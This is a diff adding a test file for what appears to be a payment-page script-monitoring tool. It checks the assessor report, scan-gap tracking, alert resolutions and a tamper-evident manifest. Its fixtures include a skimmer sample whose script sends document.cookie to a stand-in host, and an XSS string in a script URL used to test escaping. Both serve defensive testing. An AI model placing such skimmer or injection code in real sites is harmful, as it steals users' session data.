@@ -1,0 +1,135 @@
+// The assessor report from a scripted month of history, field by field, and its manifest catching an edited report.
+
+import assert from 'node:assert/strict';
+import { join } from 'node:path';
+import { describe, it } from 'vitest';
+import { parseConfig } from '../../src/config/config.js';
+import { buildReport, largestGap } from '../../src/evidence/report-data.js';
+import { reportHtml } from '../../src/evidence/report-html.js';
+import { openReport, sealReport } from '../../src/evidence/report-manifest.js';
+import { planScan } from '../../src/plan/plan-scan.js';
+import { openStore, type Store } from '../../src/store/open-store.js';
+import { APP, INLINE_A, INLINE_B, LIB, PAGE_URL, pageCapture, script } from '../fixtures/captures.js';
+import { tempProject } from '../fixtures/cli.js';
+import type { PageCapture } from '../../src/capture/types.js';
+
+const CSP_1 = "default-src 'self'; script-src 'self' https://cdn.example";
+const CSP_2 = "default-src 'self'; script-src 'self' https://cdn.example; form-action 'self'";
+const LIB_2 = script({ kind: 'external', url: LIB.url, body: 'window.lib={v:"1.2.3"};fetch("https://collect.example/c",{method:"POST",body:document.cookie});' });
+const HOSTILE = script({ kind: 'external', url: 'https://cdn.example/x.js?<script>alert(1)</script>', body: 'window.x = 1;' });
+const DAY = 86_400_000;
+
+function at(day: number, hour = 8): { startedAt: string; finishedAt: string } {
+  const start = Date.parse('2026-10-01T00:00:00.000Z') + (day - 1) * DAY + hour * 3_600_000;
+  return { startedAt: new Date(start).toISOString(), finishedAt: new Date(start + 2000).toISOString() };
+}
+
+/** October 2026 of one checkout: first baseline, an authorization, a rejected skimmer, a missed week, a CSP change. */
+function scriptedMonth(): { store: Store; config: ReturnType<typeof parseConfig>; ids: { rejected: number; approved: number } } {
+  const dir = tempProject('sw-report-');
+  const config = parseConfig({ database: join(dir, 'sw.db'), targets: [{ name: 'checkout', url: PAGE_URL }] }, join(dir, 'scriptwarden.yml'));
+  const store = openStore(config.database);
+  const scan = (c: PageCapture) => store.scans.applyPlan(planScan(c, store.scans.readBaseline(c.target, c.profile), { removalThreshold: 2 }), c.finishedAt);
+  const page = (scripts = [APP, LIB, INLINE_A, INLINE_B, HOSTILE], csp = CSP_1, day = 1) =>
+    pageCapture(scripts, { ...at(day), securityHeaders: { 'content-security-policy': csp, 'x-frame-options': 'DENY' } });
+  scan(page());
+  store.alerts.approveAll({ by: 'alice', note: 'first baseline reviewed', at: at(1, 10).startedAt });
+  const app = store.inventory.scripts({}).find((r) => r.url === APP.url)!;
+  store.inventory.authorize([app.scriptId], { justification: 'checkout logic, our own build', by: 'bob', at: at(2).startedAt, selector: 'script' });
+  scan(page(undefined, CSP_1, 7));
+  const [skimmer] = scan(page([APP, LIB_2, INLINE_A, INLINE_B, HOSTILE], CSP_1, 14)).newAlerts;
+  store.alerts.decide([skimmer!.id], 'rejected', { by: 'carol', note: 'not ours: incident INC-1', at: at(14, 12).startedAt });
+  scan(pageCapture([], { ...at(18), outcome: { ok: false, code: 'PAGE_TIMEOUT', reason: 'no load in 30 s' } }));
+  const [header] = scan(page([APP, LIB, INLINE_A, INLINE_B, HOSTILE], CSP_2, 26)).newAlerts;
+  store.alerts.decide([header!.id], 'approved', { by: 'alice', note: 'CSP tightened (change CHG-9)', at: at(27).startedAt });
+  return { store, config, ids: { rejected: skimmer!.id, approved: header!.id } };
+}
+
+const OCTOBER = { targets: [], from: '2026-10-01T00:00:00.000Z', to: '2026-10-31T23:59:59.999Z', generatedAt: '2026-11-01T09:00:00.000Z' };
+
+describe('assessor report', () => {
+  it('lists each script of the payment page with its source, integrity and authorization, bulk-approved ones marked', () => {
+    const { store, config } = scriptedMonth();
+    const report = buildReport(store, config, OCTOBER);
+    assert.equal(report.pages.length, 1);
+    const [page] = report.pages;
+    assert.deepEqual([page!.target, page!.url, page!.paymentBecause], ['checkout', PAGE_URL, 'a payment form was seen on it']);
+    const app = page!.inventory.find((s) => s.url === APP.url)!;
+    assert.deepEqual([app.kind, app.party, app.runsIn, app.authorizedBy, app.justification, app.bulkApproved, app.state],
+      ['external', 'first', 'page', 'bob', 'checkout logic, our own build', false, 'approved']);
+    assert.match(app.sha256!, /^[0-9a-f]{64}$/);
+    assert.match(app.sri!, /^sha384-/);
+    const inline = page!.inventory.find((s) => s.kind === 'inline')!;
+    assert.deepEqual([inline.authorizedBy, inline.justification, inline.bulkApproved], ['alice', 'first baseline reviewed', true]);
+    assert.equal(page!.inventory.find((s) => s.url === LIB.url)!.party, 'third');
+    assert.equal(report.summary.pages, 1);
+    assert.equal(report.summary.scripts, 5);
+    assert.equal(report.summary.authorizedShare, 1 / 5, 'only the script authorized on its own counts');
+    assert.equal(report.summary.bulkOnly, 4);
+    store.close();
+  });
+
+  it('records the evaluations, the largest gap and the missed weekly evaluation, the header history and every alert with its resolution', () => {
+    const { store, config, ids } = scriptedMonth();
+    const report = buildReport(store, config, OCTOBER);
+    const [page] = report.pages;
+    const e = page!.evaluation;
+    assert.deepEqual([e.scans.length, e.successful, e.failed], [5, 4, 1]);
+    assert.deepEqual(e.scans.map((s) => s.status), ['ok', 'ok', 'ok', 'failed', 'ok']);
+    assert.equal(e.scans[3]!.errorCode, 'PAGE_TIMEOUT');
+    assert.deepEqual(e.largestGap, { ms: 12 * DAY, from: at(14).startedAt, to: at(26).startedAt });
+    assert.deepEqual([e.requiredMs, e.requiredFrom, e.met], [7 * DAY, 'weekly (PCI DSS 11.6.1)', false]);
+    assert.equal(report.summary.evaluationMet, false);
+
+    const csp = page!.headers.filter((h) => h.header === 'content-security-policy');
+    assert.deepEqual(csp.map((h) => [h.value, h.since]), [[CSP_1, at(1).startedAt], [CSP_2, at(26).startedAt]]);
+    assert.deepEqual(page!.headers.filter((h) => h.header === 'strict-transport-security').map((h) => h.value), [null]);
+
+    assert.deepEqual(page!.alerts.map((a) => [a.id, a.status, a.decidedBy, a.timeToDecisionMs]), [
+      // Detected when the scan that saw it finished, 2 s after it started.
+      [ids.rejected, 'rejected', 'carol', 4 * 3_600_000 - 2000],
+      [ids.approved, 'approved', 'alice', DAY - 2000],
+    ]);
+    assert.equal(page!.alerts[0]!.resolution, 'rejected: unauthorized (incident)');
+    assert.equal(page!.alerts[0]!.note, 'not ours: incident INC-1');
+    assert.equal(page!.alerts[1]!.type, 'header.changed');
+    assert.deepEqual([report.summary.alerts, report.summary.openIncidents, report.summary.openAlerts], [2, 1, 0]);
+
+    assert.equal(report.tamperEvidence.verified, true);
+    assert.equal(report.tamperEvidence.chainHeadAtStart, null, 'no scan before the period');
+    const last = store.scans.list({ limit: 1, offset: 0 })[0]!;
+    assert.equal(report.tamperEvidence.chainHeadAtEnd!.scanId, last.id);
+    assert.ok(store.scans.hasChainHead(report.tamperEvidence.chainHeadAtEnd!));
+    store.close();
+  });
+
+  it('counts the gaps from the start of the period and to its end', () => {
+    assert.deepEqual(largestGap([], '2026-10-01T00:00:00.000Z', '2026-10-08T00:00:00.000Z')!.ms, 7 * DAY);
+    assert.deepEqual(largestGap(['2026-10-02T00:00:00.000Z'], '2026-10-01T00:00:00.000Z', '2026-10-12T00:00:00.000Z')!.ms, 10 * DAY);
+  });
+
+  it('seals HTML and JSON with a manifest that catches an edited report, and escapes what pages served', () => {
+    const { store, config } = scriptedMonth();
+    const report = buildReport(store, config, OCTOBER);
+    const fields = { chainHead: report.tamperEvidence.chainHeadAtEnd, parameters: OCTOBER, generator: 'scriptwarden test' };
+    const html = reportHtml(report, 'scriptwarden test');
+    assert.ok(!html.includes('<script>alert(1)'), 'a script URL is shown as text');
+    assert.ok(html.includes('x.js?&#60;script&#62;alert(1)&#60;/script&#62;'));
+    assert.match(html, /Evaluation frequency<\/span><b class="bad">not met/);
+    const sealed = sealReport('html', Buffer.from(html), fields);
+    const opened = openReport(sealed);
+    assert.deepEqual([opened.intact, opened.manifest.format, opened.manifest.chainHead], [true, 'html', report.tamperEvidence.chainHeadAtEnd]);
+    const edited = Buffer.from(sealed.toString('utf8').replace('not ours: incident INC-1', 'approved vendor change'));
+    assert.equal(openReport(edited).intact, false);
+
+    const json = sealReport('json', report, fields);
+    const parsed = JSON.parse(json.toString('utf8')) as { report: typeof report };
+    assert.deepEqual(parsed.report, JSON.parse(JSON.stringify(report)), 'the JSON carries the whole report');
+    assert.equal(openReport(json).intact, true);
+    const tampered = JSON.parse(json.toString('utf8')) as { report: typeof report; manifest: unknown };
+    tampered.report.summary.openIncidents = 0;
+    assert.equal(openReport(Buffer.from(JSON.stringify(tampered, null, 1))).intact, false);
+    assert.throws(() => openReport(Buffer.from('<html>no manifest</html>')), /no scriptwarden manifest/);
+    store.close();
+  });
+});
